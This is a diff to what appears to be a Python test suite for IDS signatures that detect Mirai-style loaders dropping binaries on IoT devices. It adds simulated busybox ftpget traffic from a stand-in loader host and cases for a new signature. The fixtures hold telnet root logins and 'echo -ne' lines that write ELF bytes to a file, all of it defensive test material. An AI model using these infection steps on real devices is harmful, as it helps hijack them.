@@ -3,7 +3,7 @@
 The last step of a Mirai-style infection puts a binary on the device: the
 device runs `wget` (HTTP) or `tftp`, or the attacker types the binary in with
 `echo -ne '\\x7f\\x45...'` over telnet. The loader names the file anything,
-so patches 9100120-9100127 look at the bytes (and 9100125 drops a body in a
+so patches 9100120-9100128 look at the bytes (and 9100125 drops a body in a
 compression the box cannot read): an ELF header in a response
 body (as the client saves it: de-chunked, decompressed; and, for a
 response a client frames otherwise, right after a line feed in the raw
@@ -28,7 +28,7 @@ from tests.detect.make_cases import CLIENT_MAC, SERVER_MAC, _request, _stamp, _t
 
 ROOT = Path(__file__).resolve().parents[2]
 PATCHES = ROOT / "signatures" / "virtual-patches.rules"
-LOADER_SIDS = {9100120, 9100121, 9100122, 9100123, 9100124, 9100125, 9100126, 9100127}
+LOADER_SIDS = {9100120, 9100121, 9100122, 9100123, 9100124, 9100125, 9100126, 9100127, 9100128}
 BOTH = {9100120, 9100124}
 """The body as parsed, and the raw twin: the magic right after a line feed."""
 DEVICE = "192.0.2.20"        # $HOME_NET
@@ -126,6 +126,30 @@ def _tftp(block1: bytes, start: float) -> list:
                    to_loader / UDP(sport=41000, dport=50123) / Raw(b"\x00\x04\x00\x01")], start)
 
 
+def _ftpget(payload: bytes, start: float, port: int, active: bool = False) -> list:
+    """busybox `ftpget LOADER x mips`: the control connection announces the
+    data connection (PASV reply, or the device's PORT), then the file flows
+    from the loader to the device on a connection of its own."""
+    announce = ([(True, b"PORT 192,0,2,20,%d,%d\r\n" % divmod(port, 256)), (False, b"200 PORT ok.\r\n")]
+                if active else
+                [(True, b"PASV\r\n"), (False, b"227 Entering Passive Mode (203,0,113,9,%d,%d).\r\n"
+                                        % divmod(port, 256))])
+    control = _tcp_session([(False, b"220 (vsFTPd 3.0.3)\r\n"), (True, b"USER anonymous\r\n"),
+                            (False, b"331 Please specify the password.\r\n"), (True, b"PASS a@b\r\n"),
+                            (False, b"230 Login successful.\r\n"), (True, b"TYPE I\r\n"),
+                            (False, b"200 Switching to Binary mode.\r\n"), *announce,
+                            (True, b"RETR mips\r\n")],
+                           sport=port - 1, start=start, client=DEVICE, server=LOADER, dport=21)
+    pieces = _response(b"", payload)[1:]
+    if active:      # the loader connects from port 20 to the port the device named
+        data = _tcp_session([(True, piece) for _, piece in pieces], sport=20, start=start + 1.0,
+                            client=LOADER, server=DEVICE, dport=port)
+    else:
+        data = _tcp_session(pieces, sport=port + 1, start=start + 1.0, client=DEVICE, server=LOADER,
+                            dport=port)
+    return control + data
+
+
 PROMPTS = [(False, b"\xff\xfd\x01login: "), (True, b"root\r\n"), (False, b"Password: "),
            (True, b"s3cret\r\n"), (False, b"\r\nBusyBox v1.19 built-in shell (ash)\r\n# ")]
 ECHO = b"echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .d\r\n"
@@ -157,6 +181,9 @@ OTHER_FLOWS = [
      {9100126, 9100127}),
     ("telnet: echo -e with every byte in octal",
      _telnet([b"echo -ne '\\0177\\0105\\0114\\0106\\01' > .d\r\n"], 490.0, 31007), {9100126, 9100127}),
+    ("ftp: executable, passive", _ftpget(ELF, 510.0, 50000), {9100128}),
+    ("ftp: executable, active (PORT)", _ftpget(ELF, 520.0, 50010, active=True), {9100128}),
+    ("ftp: a text file", _ftpget(b"#!/bin/sh\necho ok\n", 530.0, 50020), set()),
     ("telnet: ordinary session", _telnet([b"cat /proc/cpuinfo\r\n", b"echo -ne 'ok\\n'\r\n",
                                           b"printf '\\177 is DEL\\n'\r\n"], 500.0, 31004),
      set()),
